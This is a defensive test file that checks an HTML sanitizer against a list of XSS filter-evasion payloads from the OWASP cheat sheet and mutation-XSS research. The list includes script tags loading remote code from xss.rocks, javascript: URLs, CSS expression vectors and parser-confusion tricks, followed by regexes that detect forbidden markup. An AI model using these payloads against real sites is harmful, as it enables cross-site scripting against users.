import { describe, expect, it } from 'vitest';
import { HTML_PROFILE_NAMES } from './htmlProfiles.ts';
import { sanitizeHtml } from './sanitizeHtml.ts';

// Filter-evasion vectors from the OWASP XSS cheat sheet and mutation-XSS write-ups, beyond the public sample.
const VECTORS: readonly string[] = [
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="tel:javascript:alert(1)">t</a>`,
  `<a href="https://example.org/?next=javascript:alert(1)">t</a>`,
  `<img src="https://a.org/x.png?javascript:alert(1)">`,
  `<div style="color:red;background:url('javascript:alert(1)')">`,
  `<a href="java&#x0000A;script:alert(1)">`,
  `<a href="&#x1;javascript:alert(1)">`,
  `<img src=x onerror=\\u0061lert(1)>`,
  `<a href=javascript&#58;alert(1)>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<a href="jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<a href="#" onclick="alert(1)//">x</a>`,
  `<img src="/" =_=" title="onerror='alert(1)'">`,
  `<a href="\u0000javascript:alert(1)">x</a>`,
  `<a href="javascript\u0000:alert(1)">x</a>`,
  `<img src="x" alt="y" style="x:\\65xpression(alert(1))">`,
  `<p style="background:url(data:image/svg+xml;base64,PHN2Zz4=)">x</p>`,
  `<a href=" javascript:alert(1)">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
];

// Outside attribute values nothing may run; inside URL attributes no script scheme may remain.
const FORBIDDEN_MARKUP =
  /<(script|style|base|link|object|embed|frame|bgsound|xss|svg|math|meta)|\son[a-z]+\s*=|expression\s*\(|-moz-binding|behavior|@import|dynsrc|lowsrc|background=/i;
const SCRIPT_URL = /\b(href|src|poster)="[^"]*(javascript|vbscript|livescript):/i;

describe('sanitizeHtml against filter-evasion vectors', () => {
  it.each(HTML_PROFILE_NAMES)('%s leaves nothing that runs', (profile) => {
    for (const input of VECTORS) {
      const output = sanitizeHtml(input, profile);
      expect(output.replace(/"[^"]*"/g, '""'), input).not.toMatch(FORBIDDEN_MARKUP);
      expect(output, input).not.toMatch(SCRIPT_URL);
      expect(output.toLowerCase(), input).not.toContain('javascript:');
    }
  });
});
